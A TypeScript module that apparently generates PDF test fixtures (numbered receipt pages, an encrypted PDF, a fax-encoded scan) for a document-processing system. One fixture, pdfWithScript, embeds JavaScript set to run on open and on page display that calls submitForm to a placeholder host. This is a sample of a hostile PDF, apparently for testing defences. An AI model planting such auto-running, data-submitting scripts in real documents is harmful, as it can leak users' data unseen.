/** A stream object of a PDF. */
const stream = (content: Buffer | string, dictionary = '') => {
  const bytes = Buffer.from(content);
  return Buffer.concat([
    Buffer.from(`<< /Length ${bytes.length} ${dictionary} >> stream\n`),
    bytes,
    Buffer.from('\nendstream'),
  ]);
};

/** A PDF of these objects, numbered from 1, the first of which is the catalogue; `trailer` is added to its end. */
function pdfOf(objects: readonly (Buffer | string)[], trailer = ''): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n')];
  const places: number[] = [];
  let length = parts[0]?.length ?? 0;
  for (const [index, object] of objects.entries()) {
    const part = Buffer.concat([Buffer.from(`${index + 1} 0 obj\n`), Buffer.from(object), Buffer.from('\nendobj\n')]);
    places.push(length);
    length += part.length;
    parts.push(part);
  }
  const entries = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('');
  const end = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${entries}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailer} >>\nstartxref\n${length}\n%%EOF\n`;
  return Buffer.concat([...parts, Buffer.from(end)]);
}

/** What the first page of a page tree refers to: the catalogue is 1, the tree 2, the typeface 3, then page and content. */
const page = (content: number, resources = '/Font << /F 3 0 R >>') =>
  `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << ${resources} >> /Contents ${content} 0 R >>`;
const TYPEFACE = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';

/** Pages with a black band across the upper half and their number in words below. @param catalogue entries of its own */
export function pdfWithPages(count: number, catalogue = '', trailer = ''): Buffer {
  const numbers = Array.from({ length: count }, (_, index) => index);
  return pdfOf(
    [
      `<< /Type /Catalog /Pages 2 0 R ${catalogue} >>`,
      `<< /Type /Pages /Count ${count} /Kids [${numbers.map((index) => `${4 + 2 * index} 0 R`).join(' ')}] >>`,
      TYPEFACE,
      ...numbers.flatMap((index) => [
        page(5 + 2 * index),
        stream(`0 g 0 421 595 421 re f BT /F 24 Tf 72 300 Td (Comprobante ${index + 1}) Tj ET`),
      ]),
    ],
    trailer,
  );
}

/** A PDF whose script runs as soon as it is opened in a reader that runs scripts, and when its page is shown. */
export const pdfWithScript = () => {
  const script = "<< /S /JavaScript /JS (app.alert('hola'); this.submitForm('https://example.ec/');) >>";
  return pdfWithPages(
    1,
    `/OpenAction ${script} /AA << /WC ${script} >> /Names << /JavaScript << /Names [(a) ${script}] >> >>`,
  );
};

/** A PDF that nobody opens without a password. */
export const lockedPdf = () => {
  const word = `<${'41'.repeat(32)}>`;
  const encryption = `/Encrypt << /Filter /Standard /V 1 /R 2 /Length 40 /P -4 /O ${word} /U ${word} >> /ID [<00> <00>]`;
  return pdfWithPages(1, '', encryption);
};

/**
 * A scan as fax machines code it (ITU-T T.6): white on the left, black on the right. The first line says where it changes,
 * the other fifteen that they are as the one above.
 */
export const scannedPdf = () => {
  const [horizontal, white8, black8, asAbove, end] = ['001', '10011', '000101', '11', '000000000001'];
  const bits = horizontal + white8 + black8 + asAbove.repeat(15) + end.repeat(2);
  const bytes = bits.padEnd(Math.ceil(bits.length / 8) * 8, '0').match(/.{8}/g) ?? [];
  const picture = stream(
    Buffer.from(bytes.map((byte) => Number.parseInt(byte, 2))),
    '/Type /XObject /Subtype /Image /Width 16 /Height 16 /ColorSpace /DeviceGray /BitsPerComponent 1 /Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns 16 /Rows 16 >>',
  );
  return pdfOf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Count 1 /Kids [4 0 R] >>',
    TYPEFACE,
    page(5, '/XObject << /I 6 0 R >>'),
    stream('595 0 0 842 0 0 cm /I Do'),
    picture,
  ]);
};
